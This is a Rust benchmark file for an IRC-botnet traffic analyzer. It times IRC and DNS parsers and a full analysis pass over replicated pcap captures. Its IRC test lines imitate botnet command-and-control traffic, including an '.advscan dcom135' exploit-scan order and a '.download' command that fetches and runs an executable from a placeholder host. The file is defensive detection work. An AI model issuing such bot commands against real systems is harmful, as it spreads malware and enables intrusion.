//! Micro-benchmarks of the dissectors' hot loops (issue 19), so a
//! regression shows before `bench/capture.sh` does:
//!
//! - `irc/parse_message`: one owned [`Message`] per line, over a mix of
//!   lines from bot C&C sessions (prefix, numerics, trailing texts, tags);
//! - `irc/parse_view`: the same lines parsed in place (no allocation);
//! - `dns/parse`: a query and a compressed response (CNAME chain, A
//!   records), the shape of the corpus's DNS traffic;
//! - `analyzer/corpus_mix`: the whole analyzer (engine, detection, every
//!   dissector, records to a sink that drops them) over an in-memory
//!   capture built as `bench/capture.sh SOURCE=corpus` builds its input:
//!   the corpus's IRC, TFTP, HTTP and DNS captures, copied with the
//!   addresses changed per copy so each copy is a new set of flows.
//!
//! Run: `cargo bench -p botscope-dissect --bench hot_loops`.

use botscope_capture::{read_bytes, EngineConfig};
use botscope_dissect::irc::parser::{parse_message, parse_view};
use botscope_dissect::{dns, Analyzer, Record};
use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;
use std::path::PathBuf;

/// Lines as bots and their C&C servers send them.
const IRC_LINES: &[&[u8]] = &[
    b":hunt3d.devilz.net 332 [NL]1234 #xxx :.advscan dcom135 200 3 0 -r -s",
    b":hunt3d.devilz.net 333 [NL]1234 #xxx h4x0r 1101941842",
    b":hunt3d.devilz.net 353 [NL]1234 @ #xxx :[NL]1234 @h4x0r",
    b":[NL]1234!~bot@10.0.0.5 JOIN :#xxx",
    b"PRIVMSG #xxx :[SCAN]: Random Port Scan started on 10.x.x.x:445 with a delay of 5 seconds for 0 minutes using 200 threads.",
    b":h4x0r!~h@192.0.2.7 PRIVMSG #xxx :.download http://192.0.2.9/x.exe c:\\x.exe 1",
    b"NICK [NL]1234",
    b"USER abcdef 0 0 :[NL]1234",
    b"PING :hunt3d.devilz.net",
    b"PONG :hunt3d.devilz.net",
    b"@time=2025-07-28T20:48:30.049Z :tim2!tim@10.0.0.7 PRIVMSG #c :hello there",
    b":irc.example.net NOTICE AUTH :*** Looking up your hostname...",
];

fn irc(c: &mut Criterion) {
    let mut g = c.benchmark_group("irc");
    g.throughput(Throughput::Elements(IRC_LINES.len() as u64));
    g.bench_function("parse_message", |b| {
        b.iter(|| {
            for l in IRC_LINES {
                black_box(parse_message(black_box(l)));
            }
        })
    });
    g.bench_function("parse_view", |b| {
        b.iter(|| {
            for l in IRC_LINES {
                let v = parse_view(black_box(l));
                black_box(v.map(|v| (v.command_upper().as_str().len(), v.params().count())));
            }
        })
    });
    g.finish();
}

/// A name in wire format.
fn name(out: &mut Vec<u8>, n: &str) {
    for l in n.split('.') {
        out.push(l.len() as u8);
        out.extend_from_slice(l.as_bytes());
    }
    out.push(0);
}

/// A record header (owner as a pointer to `ptr`), then its rdata.
fn record(out: &mut Vec<u8>, ptr: u16, rtype: u16, rdata: &[u8]) {
    out.extend_from_slice(&(0xc000 | ptr).to_be_bytes());
    out.extend_from_slice(&rtype.to_be_bytes());
    out.extend_from_slice(&[0, 1, 0, 0, 0x0e, 0x10]);
    out.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
    out.extend_from_slice(rdata);
}

fn dns_messages() -> [Vec<u8>; 2] {
    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    name(&mut q, "www.irc-cnc.example.com");
    q.extend_from_slice(&[0, 1, 0, 1]);
    let mut r = vec![0x12, 0x34, 0x81, 0x80, 0, 1, 0, 4, 0, 0, 0, 0];
    name(&mut r, "www.irc-cnc.example.com");
    r.extend_from_slice(&[0, 1, 0, 1]);
    // CNAME www -> cnc.example.com (its tail compressed), then three As.
    let mut cname = Vec::new();
    cname.extend_from_slice(b"\x03cnc");
    cname.extend_from_slice(&(0xc000u16 | (12 + 4 + 8)).to_be_bytes());
    record(&mut r, 12, 5, &cname);
    let cname_at = (r.len() - cname.len()) as u16;
    for a in 1..=3u8 {
        record(&mut r, cname_at, 1, &[192, 0, 2, a]);
    }
    [q, r]
}

fn dns(c: &mut Criterion) {
    let msgs = dns_messages();
    let r = dns::parser::parse(&msgs[1]).expect("response parses");
    assert!(r.error.is_none(), "{:?}", r.error);
    assert_eq!(r.records.len(), 4);
    assert_eq!(r.records[3].name, "cnc.example.com");
    let mut g = c.benchmark_group("dns");
    g.throughput(Throughput::Elements(2));
    g.bench_function("parse", |b| {
        b.iter(|| {
            for m in &msgs {
                black_box(dns::parser::parse(black_box(m)).ok());
            }
        })
    });
    g.finish();
}

/// The corpus captures `bench/capture.sh SOURCE=corpus` replicates.
const CORPUS: &[&str] = &[
    "suricata-verify/tests/irc/input.pcap",
    "spicy-tftp/testing/Traces/tftp_rrq.pcap",
    "zeek/testing/btest/Traces/http/pipelined-requests.pcap",
    "zeek/testing/btest/Traces/dns53.pcap",
    "zeek/testing/btest/Traces/dnssec/rrsig.pcap",
    "zeek/testing/btest/Traces/irc-basic.pcap",
    "suricata-verify/tests/dns/dns-tcp-www-google-com/dns.pcap",
];

/// `copies` copies of the corpus captures' Ethernet records in one pcap,
/// addresses shifted per copy (as bench/capture.sh does; checksums are
/// not fixed: the analyzer runs with validation off).
fn corpus_capture(copies: u32) -> Vec<u8> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/corpus");
    let mut recs: Vec<Vec<u8>> = Vec::new();
    for p in CORPUS {
        let d = std::fs::read(dir.join(p)).expect("corpus capture");
        if d.len() < 24 || d[..4] != [0xd4, 0xc3, 0xb2, 0xa1] || d[20..24] != [1, 0, 0, 0] {
            continue;
        }
        let mut off = 24;
        while off + 16 <= d.len() {
            let incl =
                u32::from_le_bytes(d[off + 8..off + 12].try_into().expect("4 bytes")) as usize;
            let Some(r) = d.get(off + 16..off + 16 + incl) else {
                break;
            };
            recs.push(r.to_vec());
            off += 16 + incl;
        }
    }
    let mut out = Vec::new();
    for v in [0xa1b2c3d4u32, 0x0004_0002, 0, 0, 262_144, 1] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    let mut t = 1_100_000_000u64;
    for copy in 1..=copies {
        let (a, b) = ((copy >> 8) as u8, copy as u8);
        for r in &recs {
            let mut p = r.clone();
            if p.len() >= 34 && p[12..14] == [8, 0] {
                for o in [26, 30] {
                    p[o + 2] = p[o + 2].wrapping_add(a);
                    p[o + 3] = p[o + 3].wrapping_add(b);
                }
            }
            t += 1;
            for v in [
                (t / 1000) as u32,
                (t % 1000 * 1000) as u32,
                p.len() as u32,
                p.len() as u32,
            ] {
                out.extend_from_slice(&v.to_le_bytes());
            }
            out.extend_from_slice(&p);
        }
    }
    out
}

/// Counts records and drops them (the log writer's part is not timed).
struct Count(u64);
impl botscope_dissect::RecordSink for Count {
    fn record(&mut self, r: Record) {
        self.0 += 1;
        drop(black_box(r));
    }
}

fn analyzer(c: &mut Criterion) {
    let cap = corpus_capture(20);
    let cfg = EngineConfig {
        verify_checksums: false,
        ..EngineConfig::default()
    };
    let run = || {
        let mut an = Analyzer::new(Count(0));
        an.take_conn = true;
        let s = read_bytes("bench", &cap, &cfg, &mut an).expect("in memory");
        (s.packets, an.into_sink().0)
    };
    let (packets, records) = run();
    assert!(packets > 4000, "{packets} packets");
    assert!(records > 2000, "{records} records");
    let mut g = c.benchmark_group("analyzer");
    g.throughput(Throughput::Elements(packets));
    g.sample_size(20);
    g.bench_function("corpus_mix", |b| b.iter(|| black_box(run())));
    g.finish();
}

criterion_group!(benches, irc, dns, analyzer);
criterion_main!(benches);
